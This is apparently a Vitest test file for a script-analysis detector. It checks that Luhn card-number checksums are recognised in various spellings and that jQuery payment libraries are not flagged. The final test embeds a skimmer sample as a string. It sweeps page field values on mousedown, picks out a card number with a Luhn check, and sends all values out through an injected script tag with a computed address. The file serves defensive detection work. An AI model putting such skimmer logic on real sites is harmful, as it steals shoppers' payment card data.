import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { analyzeScript } from '../../detector/index.ts'
import { factsOf } from './detector/facts-of.ts'

// A function that computes the Luhn checksum tells which of the values it is handed is a card
// number, whatever the fields are named: recognised by what it computes, in any spelling.

const luhnFunctions = (source: string): number => factsOf(source).luhn.length

describe('the Luhn checksum', () => {
  it.each([
    [
      'doubling every second digit, less nine',
      `function ok(n){var s=0,d=n.split('');for(var i=d.length-1;i>=0;i--){var x=+d[i];if((d.length-i)%2===0){x*=2;if(x>9)x-=9}s+=x}return s%10===0}`,
    ],
    [
      'minified, with a conditional',
      `var c=function(a){for(var b=0,e=a.length-1;e>=0;e--)b+=e%2?1*a[e]:2*a[e]>9?2*a[e]-9:2*a[e];return!(b%10)}`,
    ],
    [
      'through the table of doubled digits',
      `const v = (s) => { let sum = 0, alt = false; for (const ch of [...s].reverse()) { sum += alt ? [0,2,4,6,8,1,3,5,7,9][+ch] : +ch; alt = !alt } return sum % 10 === 0 }`,
    ],
    [
      'or the length of a card number, digits only',
      `function u(t){return /^[0-9-\\s]+$/.test(t)&&t.replace(/\\D/g,"").length>=13}`,
    ],
    [
      'or the length held to 13 to 19 digits',
      `const pan = (v) => { const d = v.replace(/[^0-9]/g, ''); return !(d.length < 13 || d.length > 19) }`,
    ],
  ])('is recognised %s', (_how, source) => {
    expect(luhnFunctions(source)).toBe(1)
  })

  it.each([
    [
      'a digit sum modulo 10 with no doubling',
      `function d(n){var s=0;for(var i=0;i<n.length;i++)s+=+n[i];return s%10}`,
    ],
    [
      'a price doubled and rounded',
      `function p(x){return Math.round(x*2)/2>9?9:x%10}`.replace('>9?9', '>8?8'),
    ],
    [
      'the parts spread over different functions',
      `function a(x){return x%10}function b(x){return x*2}function c(x){return x-9}`,
    ],
    ['a phone number held to 10 digits', `function tel(v){return v.replace(/\\D/g,'').length>=10}`],
    ['a name held to 13 characters', `function n(v){return v.trim().length>=13}`],
    [
      'a date formatter: an ordinal, a doubled hour, a padded day',
      `function fmt(n,h){var o=n%10===1?'st':'th';var hh=h*2;return (n>9?n:'0'+n)+o+hh}`,
    ],
  ])('is not %s', (_how, source) => {
    expect(luhnFunctions(source)).toBe(0)
  })

  it.each([
    ['jquery-validation', 'node_modules/jquery-validation/dist/additional-methods.js'],
    ['jquery.payment', 'node_modules/jquery.payment/lib/jquery.payment.js'],
  ])(
    'in a library bundled with jQuery (%s) does not make the bundle a card send',
    (_name, file) => {
      const bundle = [
        readFileSync('node_modules/jquery/dist/jquery.js', 'utf8'),
        readFileSync(file, 'utf8'),
      ].join('\n')
      expect(factsOf(bundle).luhn.length).toBeGreaterThan(0)
      expect(analyzeScript(bundle).verdict).toBe('clean')
    },
  )

  it("makes a sweep that keeps a value passing it and sends the page's values to a computed script address a card send", () => {
    const source = `(function(){var hit='',all='';function luhn(v){var s=0;v=v.replace(/\\D/g,'');for(var i=v.length-1,k=0;i>=0;i--,k++){var d=+v[i];if(k%2){d=d*2;if(d>9)d=d-9}s+=d}return v.length>12&&s%10==0}
      function grab(){var els=document.getElementsByTagName('*');all='';for(var i=0;i<els.length;i++){var v=els[i].value;if(!v)continue;if(luhn(v))hit=v;all+='&'+(els[i].name||i)+'='+encodeURIComponent(v)}
      if(hit){var s=document.createElement('script');s.src=base()+'?'+all;document.head.appendChild(s)}}
      function base(){var u='https://';u+=location.hostname.split('.').reverse()[0]==='x'?'a':'b';return u}
      document.addEventListener('mousedown',grab,true)})()`
    const v = analyzeScript(source)
    expect(v.findings.filter((f) => f.points > 0).map((f) => f.rule)).toContain(
      'card-field-read-and-send',
    )
    // the same sweep without the checksum names no card: a loader's JSONP is not a card send
    const plain = source.replace('if(luhn(v))hit=v;', 'hit=v;').replace(/function luhn[^\n]*\n/, '')
    expect(analyzeScript(plain).findings.map((f) => f.rule)).not.toContain(
      'card-field-read-and-send',
    )
  })
})
